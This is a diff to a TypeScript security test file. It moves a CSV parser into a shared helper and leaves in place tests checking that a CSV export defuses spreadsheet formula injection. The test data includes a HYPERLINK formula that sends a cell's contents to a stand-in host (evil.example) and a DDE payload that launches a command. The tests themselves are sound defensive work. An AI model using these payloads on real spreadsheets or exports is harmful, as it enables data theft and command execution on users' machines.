@@ -10,6 +10,7 @@ import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createAccount, createContact, unique, type TestAccount } from '../factories/index.js';
 import { createTestApp, TEST_ORIGIN, type RestResult, type TestApp } from '../helpers/app.js';
+import { parseCsv } from '../helpers/csv.js';
 import { accountSnapshot } from './snapshot.js';
 
 const EVIL = 'https://evil.example';
@@ -356,27 +357,6 @@ describe('lead-form redirectUrl: only absolute http and https URLs', () => {
 });
 
 describe('CSV export: cells a spreadsheet would run as a formula are defused', () => {
-  /** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks. */
-  function parseCsv(text: string): string[][] {
-    const rows: string[][] = [];
-    let row: string[] = [];
-    let cell = '';
-    let quoted = false;
-    for (let i = 0; i < text.length; i++) {
-      const c = text[i]!;
-      if (quoted) {
-        if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
-        else if (c === '"') quoted = false;
-        else cell += c;
-      } else if (c === '"') quoted = true;
-      else if (c === ',') row.push(cell), (cell = '');
-      else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-      else cell += c;
-    }
-    if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
-    return rows;
-  }
-
   const FORMULAS = ['=HYPERLINK("https://evil.example?d="&A2,"Click")', '+SUM(1,2)', '-2+3', '@SUM(A1:A2)', '=cmd|\' /C calc\'!A0'];
 
   it('values posted through the public form (the attacker\'s way in) come out prefixed with \'', async () => {
